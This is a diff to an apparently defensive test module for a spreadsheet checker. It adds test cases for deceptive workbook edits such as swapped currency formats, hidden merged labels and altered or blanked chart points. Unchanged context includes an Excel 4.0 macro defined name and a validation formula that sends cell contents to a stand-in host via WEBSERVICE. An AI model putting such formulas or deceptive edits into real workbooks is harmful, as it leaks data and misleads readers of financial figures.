@@ -8,6 +8,7 @@ from pocgate_xl.workbook.blank import plan_of
 from pocgate_xl.workbook.cell_values import position_of
 from tests.hostile.appearance import BANNER, COST, DASHBOARD, RATING, ROW, TOTAL, altered
 from tests.hostile.case import Case, Make
+from tests.hostile.differentials import merged
 from tests.hostile.edits import (
     RELATION,
     WORKBOOK,
@@ -182,6 +183,18 @@ AROUND: tuple[Case, ...] = (
             swap(WORKBOOK, "<definedNames>", '<definedNames><definedName name="go" xlm="1">#REF!</definedName>')),
 )  # fmt: skip
 
+FURTHER: tuple[Case, ...] = (
+    altered("amount with the sign of another currency", "number format", "PG132", styled("dashboard", COST, code='"$"#,##0')),
+    altered("amount in euros", "number format", "PG132", styled("dashboard", COST, code="[$€-407]#,##0")),
+    altered("label under a merge", "hidden results", "PG133", merged("B5:C5", "checklist")),
+    altered("chart with other labels", "charts", "PG135",
+            replaced(CHART, r"<c:v>1\. Business KPI improvement</c:v>", "<c:v>1. Board approval</c:v>")),
+    altered("chart with a picture", "charts", "PG135",
+            replaced(CHART, "<c:plotArea>", "<c:plotArea><c:spPr><a:blipFill/></c:spPr>")),
+    altered("chart without one of its points", "charts", "PG135",
+            replaced(CHART, "<c:cat>", '<c:dPt><c:idx val="2"/><c:spPr><a:noFill/></c:spPr></c:dPt><c:cat>')),
+)  # fmt: skip
+
 RUNNING: tuple[Case, ...] = (
     Case("list that fetches", ROW, ("rules that run",), "findings", ("PG128", "PG135"),
          swap(SCORECARD, "<formula1>pg_list_rating</formula1>", '<formula1>WEBSERVICE("http://x/"&amp;A1)</formula1>')),
@@ -203,4 +216,4 @@ HONEST: tuple[Case, ...] = tuple(
     )
 )  # fmt: skip
 
-CASES: tuple[Case, ...] = (*CELLS, *AROUND, *RUNNING, *HONEST)
+CASES: tuple[Case, ...] = (*CELLS, *AROUND, *FURTHER, *RUNNING, *HONEST)
